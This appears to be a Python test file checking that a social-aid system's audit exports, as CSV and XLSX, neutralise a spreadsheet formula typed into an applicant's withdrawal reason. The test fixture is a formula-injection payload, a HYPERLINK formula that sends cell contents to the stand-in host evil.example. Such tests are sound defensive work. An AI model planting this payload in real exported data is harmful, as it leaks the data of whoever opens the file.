"""The audit export in a spreadsheet: text an applicant typed never runs as a formula.

An applicant withdraws with a reason that is an Excel formula; the auditor downloads the
history over HTTP with a real token, as CSV (UTF-8 with BOM, the formula neutralised by a
leading `'`) and as XLSX (the formula a plain text cell).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from typing import Any

import httpx
import openpyxl

from socialaid.access.vocabulary import Role
from socialaid.api.app import create_app
from socialaid.audit.export import COLUMNS
from socialaid.db.database import Database
from tests.applications_api import flows
from tests.conftest import test_settings
from tests.identity_numbers import id_number
from tests.tokens import bearer_header, token

CHANGNING = "310105"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
WITHDRAW = """mutation($i: ApplicationWithdrawInput!) {
  applicationWithdraw(input: $i) { errors { code message } } }"""


async def submitted_application(db: Database) -> dict[str, Any]:
    answers = flows.shanghai_answers(id_number(CHANGNING, date(1982, 4, 2), 131))
    applicant = await flows.applicant(db, CHANGNING)
    return await flows.apply(
        db, applicant, CHANGNING, flows.SHANGHAI_FAMILY, answers, area="huayanglu"
    )


async def withdrawn_with_a_formula_and_exported(db: Database, export_format: str) -> httpx.Response:
    application = await submitted_application(db)
    applicant = token(Role.APPLICANT, user="citizen-1", tenant=CHANGNING)
    auditor = token(Role.AUDITOR, user="auditor-sh", tenant="310000")
    variables = {
        "i": {"id": application["id"], "lockVersion": application["lockVersion"], "reason": FORMULA}
    }
    transport = httpx.ASGITransport(app=create_app(db, test_settings()))
    async with httpx.AsyncClient(transport=transport, base_url="http://api") as client:
        withdrawn = await client.post(
            "/graphql",
            json={"query": WITHDRAW, "variables": variables},
            headers=bearer_header(applicant),
        )
        assert withdrawn.json() == {"data": {"applicationWithdraw": {"errors": []}}}
        return await client.get(
            "/audit/export",
            params={"tenant": CHANGNING, "format": export_format},
            headers=bearer_header(auditor),
        )


def withdrawal_of(rows: list[dict[str, Any]]) -> dict[str, Any]:
    (withdrawal,) = [r for r in rows if r["action"] == "application.withdraw"]
    return withdrawal


async def test_a_formula_in_a_withdrawal_reason_reaches_the_auditors_csv_as_text(
    db: Database,
) -> None:
    response = await withdrawn_with_a_formula_and_exported(db, "csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"audit-310105.csv\"; filename*=UTF-8''audit-310105.csv"
    )
    assert response.content.startswith(b"\xef\xbb\xbftenant_id,sequence,")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == list(COLUMNS)
    assert withdrawal_of(rows)["reason"] == "'" + FORMULA
    # No cell anywhere in the file starts as a formula would.
    assert not [
        value for row in rows for value in row.values() if value.startswith(("=", "+", "-", "@"))
    ]


async def test_a_formula_in_a_withdrawal_reason_is_a_text_cell_in_the_auditors_xlsx(
    db: Database,
) -> None:
    response = await withdrawn_with_a_formula_and_exported(db, "xlsx")
    assert response.status_code == 200
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="audit-310105.xlsx"'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["审计事件"]
    header, *values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert header == list(COLUMNS)
    rows = [dict(zip(header, row, strict=True)) for row in values]
    assert withdrawal_of(rows)["reason"] == FORMULA
    reason_cell = sheet.cell(
        row=rows.index(withdrawal_of(rows)) + 2, column=COLUMNS.index("reason") + 1
    )
    assert (reason_cell.data_type, reason_cell.quotePrefix) == ("s", True)
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    # The export's own record, written before the first row left.
    assert [r["action"] for r in rows][-1] == "audit.export"
